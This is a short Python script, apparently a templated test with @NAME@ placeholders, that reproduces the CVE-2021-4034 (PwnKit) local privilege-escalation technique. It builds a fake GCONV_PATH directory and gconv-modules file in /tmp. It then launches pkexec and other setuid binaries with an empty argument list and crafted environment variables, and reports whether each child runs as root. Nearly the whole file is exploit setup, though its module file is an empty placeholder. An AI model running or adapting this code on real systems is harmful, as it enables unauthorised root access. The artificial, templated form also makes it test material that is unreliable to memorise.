"""Starts setuid programs with no arguments at all, not even their name, and with variables where arguments belong."""

SOURCE = "CVE-2021-4034"
SUCCESS = "a program that runs as root"

# %%
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/GCONV_PATH=.", exist_ok=True)
open("/tmp/GCONV_PATH=./@NAME@", "w").close()
os.chmod("/tmp/GCONV_PATH=./@NAME@", 0o755)
os.makedirs("/tmp/@NAME@", exist_ok=True)
open("/tmp/@NAME@/gconv-modules", "w").write("module UTF-8// INTERNAL /tmp/@NAME@/@NAME@ 2\n")
variables = (ctypes.c_char_p * 5)(b"@NAME@", b"PATH=GCONV_PATH=.", b"CHARSET=@NAME@", b"SHELL=@NAME@", None)
for program in ["/usr/bin/pkexec", *glob.glob("/usr/bin/su"), "/usr/bin/mount", "/usr/bin/passwd", "/usr/bin/id"]:
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.chdir("/tmp")
        os.dup2(writing, 1)
        os.dup2(writing, 2)
        libc.execve(program.encode(), (ctypes.c_char_p * 1)(None), variables)
        os.write(1, os.strerror(ctypes.get_errno()).encode())
        os._exit(1)
    os.close(writing)
    try:
        print(program, [line for line in open(f"/proc/{pid}/status").read().splitlines() if line.startswith("Uid")])
    except OSError as error:
        print(error)
    os.set_blocking(reading, True)
    print(os.read(reading, 400), os.waitpid(pid, 0)[1])
print("attempted")
